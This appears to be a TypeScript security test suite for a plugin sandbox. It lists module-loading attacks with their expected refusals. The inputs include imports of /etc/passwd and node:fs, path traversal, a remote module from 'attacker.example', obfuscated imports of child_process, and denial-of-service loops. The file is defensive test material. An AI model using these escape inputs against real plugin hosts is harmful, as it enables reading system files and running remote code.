import { times, type Attack } from '../attack.ts';

const load = (specifier: string): Attack => ({
  name: `import of ${specifier}`,
  module: `import * as all from ${JSON.stringify(specifier)}; export default { execute: () => Object.keys(all) };`,
  refused: 'PLUGINS_LOAD_FAILED',
});
const OK = 'export default { execute: () => 1 };';

/** Loaders, and what happens while a module is loaded. */
export const MODULES: readonly Attack[] = [
  load('node:fs'),
  load('fs'),
  load('/etc/passwd'),
  load('../../../../../../etc/passwd'),
  load('./../index.js/../../package.json'),
  load('file:///etc/passwd'),
  load('data:text/javascript,export default 1'),
  load('https://attacker.example/x.js'),
  load('phasegate:bootstrap'),
  load('./__proto__'),
  {
    name: 'a specifier with NUL, which names no more than a file of its own',
    module: `import * as all from './index.js\\0.txt'; export default { execute: () => Object.keys(all) };`,
    gives: ['default'],
  },
  {
    name: 'computed dynamic imports',
    code: `const seen = []; for (const name of ['no' + 'de:fs', ['child', 'process'].join('_'), 'worker_threads', '#x', '', '.', '..', 'std', 'os']) { try { await import(name); seen.push('loaded'); } catch { seen.push('refused'); } } return seen;`,
    gives: [...times(9, 'refused')],
  },
  {
    name: 'a specifier that is an object',
    code: 'try { await import({ toString: () => "node:fs" }); return "loaded"; } catch { return "refused"; }',
    gives: 'refused',
  },
  {
    name: 'import.meta',
    code: 'return [Object.keys(import.meta), typeof import.meta.url, typeof import.meta.resolve];',
    gives: [[], 'undefined', 'undefined'],
  },
  {
    name: 'modules that import each other for ever',
    module: `import './a.js'; ${OK}`,
    files: { 'a.js': 'import "./b.js";', 'b.js': 'import "./a.js"; for (;;);' },
    refused: 'PLUGINS_LIMIT:cpuMs',
  },
  {
    name: 'a top level that never ends',
    module: `for (;;); ${OK}`,
    refused: 'PLUGINS_LIMIT:cpuMs',
  },
  {
    name: 'a top level that takes all memory',
    module: `const all = []; for (;;) all.push(new Array(1e5).fill(0)); ${OK}`,
    refused: 'PLUGINS_LIMIT',
  },
  {
    name: 'a top level that waits for ever',
    module: `await new Promise(() => 0); ${OK}`,
    refused: 'PLUGINS_LOAD_FAILED',
  },
  {
    name: 'a top level that replaces what the bootstrap uses',
    module: `JSON.parse = Promise.prototype.then = Object.freeze = undefined; ${OK}`,
    gives: 1,
  },
  {
    name: 'a top level that looks for the host',
    module: `const found = typeof host + typeof globalThis.host; export default { execute: () => found };`,
    gives: 'undefinedundefined',
  },
  {
    name: 'a namespace that is then-able',
    module: `export function then(resolve) { resolve({ default: { execute: () => typeof process } }); } ${OK}`,
    gives: 1,
  },
  {
    name: 'a default export that is a proxy',
    module: 'export default new Proxy({}, { get() { throw new Error("no"); } });',
    refused: 'PLUGINS_LOAD_FAILED',
  },
  {
    name: 'a default export whose execute never gets there',
    module: 'export default { get execute() { for (;;); } };',
    refused: 'PLUGINS_LIMIT:cpuMs',
  },
  {
    name: 'an execute that changes after it was looked at',
    module:
      'let looks = 0; export default { get execute() { return looks++ === 0 ? () => 1 : "not a function"; } };',
    gives: null,
  },
  {
    name: 'WebAssembly and shared memory',
    code: 'return [typeof WebAssembly, typeof Atomics, typeof Worker];',
    gives: times(3, 'undefined'),
  },
  {
    name: 'shared memory beyond the limit',
    code: 'return new SharedArrayBuffer(5e8).byteLength;',
    refused: 'PLUGINS_LIMIT:memoryMb',
  },
];
